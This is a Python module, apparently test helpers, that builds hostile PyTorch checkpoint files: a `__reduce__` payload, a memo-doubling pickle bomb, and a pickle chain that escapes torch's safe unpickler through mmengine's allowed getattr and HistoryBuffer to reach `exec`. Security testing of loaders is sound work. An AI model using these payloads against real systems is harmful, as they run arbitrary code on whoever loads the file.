"""Checkpoint files that nobody's training leaves."""
import io
import os
import struct
import zipfile

import numpy as np
import torch


class Payload:
    """A pickle of it makes a folder when it is loaded."""

    def __init__(self, path):
        self.path = str(path)

    def __reduce__(self):
        return os.mkdir, (self.path, )


def save_program(path, program):
    """A checkpoint whose dict has what a pickle program leaves as 'a'.

    The program finds a memory '0' of 8 numbers of float32.
    """
    made = io.BytesIO()
    torch.save(dict(a=torch.from_numpy(np.arange(8, dtype=np.float32))), made)
    with zipfile.ZipFile(made) as source, zipfile.ZipFile(path, 'w') as file:
        for name in source.namelist():
            data = source.read(name)
            if name.endswith('data.pkl'):
                data = b'\x80\x02}X\x01\0\0\0a' + program + b's.'
            file.writestr(name, data)


def doubled(start, end, times=300):
    """A program that makes two of one, two of these, and so on.

    Args:
        start (bytes): Makes the first one.
        end (bytes | None): Puts two into it, or None for a tuple of two.
        times (int): How often. Defaults to 300.
    """
    step = b'h\0h\0\x86' if end is None else start + b'(h\0h\0' + end
    return start + b'q\0' + (b'0' + step + b'q\0') * times


def text(value):
    """A program that makes a text."""
    return b'X' + struct.pack('<I', len(value)) + value


def runs_where_getattr_is_allowed(code):
    """A program that runs code in torch's safe unpickler.

    mmengine allows it ``getattr``, which leads from any function to all, and
    HistoryBuffer, whose state may name what it is given a state by.
    """

    def attribute(of, name):
        return b'cbuiltins\ngetattr\n' + of + text(name) + b'\x86R'

    module = attribute(b'cbuiltins\ngetattr\n', b'__self__')
    return (b'cmmengine.logging.history_buffer\nHistoryBuffer\n)\x81}' +
            text(b'__setstate__') + attribute(module, b'exec') + b'sb' +
            text(code.encode()) + b'b')
